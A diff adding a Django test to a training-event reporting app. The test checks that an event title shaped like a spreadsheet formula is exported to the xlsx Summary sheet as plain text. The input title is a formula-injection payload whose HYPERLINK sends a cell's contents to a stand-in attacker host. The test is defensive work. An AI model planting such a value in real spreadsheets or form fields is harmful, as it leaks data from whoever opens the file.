@@ -614,3 +614,19 @@ def test_the_programme_page_counts_each_person_once_like_the_report(organiser, p
     results = html.split('id="programme-results"')[1].split("</ul>")[0]
     assert f"<strong>{report.people}</strong>" in results and report.people == 5
     assert f"<strong>{report.women_share}%</strong>" in results
+
+
+@pytest.mark.django_db
+def test_a_title_that_looks_like_a_formula_is_written_as_text(organiser, held):
+    event, _sessions, _people = held
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    event.title = title
+    event.save(update_fields=["title"])
+
+    response = _client(organiser).get(
+        reverse("training:event_report_file", args=[event.pk, "xlsx"])
+    )
+
+    summary = load_workbook(io.BytesIO(response.content))["Summary"]
+    cell = next(row[1] for row in summary.iter_rows(min_row=2) if row[0].value == "Event")
+    assert cell.value == title and cell.data_type == "s"
